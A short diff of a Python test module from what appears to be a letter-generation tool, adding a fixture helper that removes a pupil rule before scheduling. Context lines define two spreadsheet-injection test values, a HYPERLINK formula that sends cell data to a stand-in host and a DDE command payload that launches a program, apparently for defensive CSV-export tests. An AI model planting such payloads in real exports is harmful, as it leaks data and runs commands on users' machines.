@@ -25,6 +25,7 @@ from ektp_desk.core.letters import batch
 from tests import cli_helpers
 from tests.kpu_files import person, write_kpu_csv
 from tests.letter_helpers import give_logo
+from tests.plan_helpers import without_pupil_rule
 
 HOSTILE_NAME = "=HYPERLINK(\"http://x.test/?\"&A1,\"klik\")"
 HOSTILE_CMD = "+cmd|' /C calc'!A0"
@@ -147,6 +148,7 @@ def summoned(tmp_path_factory: pytest.TempPathFactory) -> Path:
     # a name of long multi-byte letters: 80 letters are 240 bytes of UTF-8
     db.execute_sql("UPDATE person SET name = ? WHERE id = (SELECT min(id) FROM person)",
                    ("ḀḂḄḆḈḊḌḎ" * 12,))
+    without_pupil_rule(db)
     plan = scheduling.plan(db, scheduling.Selection(), dt.date(2024, 2, 5),
                            dt.date(2024, 2, 16), today=dt.date(2024, 1, 15),
                            past_election=True)
